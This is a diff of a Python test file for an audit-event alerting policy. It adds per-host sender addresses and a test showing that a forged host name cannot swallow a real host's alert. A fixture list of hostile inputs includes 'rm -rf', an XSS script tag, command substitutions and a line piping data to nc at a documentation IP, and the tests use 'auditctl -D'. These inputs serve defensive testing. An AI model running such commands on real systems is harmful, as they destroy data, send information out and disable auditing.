@@ -38,8 +38,13 @@ HOSTILE = ["rm", "-rf", "/var/log/<script>alert(1)</script>\x1b[31mred\x1b[0m",
            "$(touch /tmp/x)", "`id`; touch /tmp/x && echo {text} {host} | nc 198.51.100.1 9"]
 
 
-def event_of(argv, host="web01", serial=42):
-    events = list(iter_events(stored(exec_records(argv, serial=serial), host=host)))
+def event_of(argv, host="web01", serial=42, address=None):
+    """The event of ``argv``; each host name sends from an address of its own unless given."""
+    if address is None:
+        address = "192.0.2.10" if host == "web01" else "198.51.100.%d" % (
+            sum(map(ord, host)) % 250 + 1)
+    events = list(iter_events(stored(exec_records(argv, serial=serial), host=host,
+                                     address=address)))
     assert len(events) == 1
     return classify(events[0], RULES)
 
@@ -85,6 +90,15 @@ def test_same_rule_same_host_within_the_window_is_one_alert_then_a_count():
     assert len(policy.decide(event_of(["auditctl", "-D"], serial=5), 61.0)) == 1
     # windows with no repeat close silently; flush reports nothing then
     assert policy.due(200.0) == [] and policy.flush() == []
+
+
+def test_a_sender_claiming_another_hosts_name_never_absorbs_that_hosts_alert():
+    policy = AlertPolicy(min_level="high", window=60, max_alerts=100)
+    forged = policy.decide(event_of(["auditctl", "-D"], serial=1, address="192.0.2.66"), 0.0)
+    real = policy.decide(event_of(["auditctl", "-D"], serial=2), 1.0)
+    assert [(alert["host"], alert["address"]) for alert in forged + real] == [
+        ("web01", "192.0.2.66"), ("web01", "192.0.2.10")]
+    assert policy.counts["deduplicated"] == 0
 
 
 def test_rate_limit_caps_alerts_per_window_and_reports_what_it_held_back():
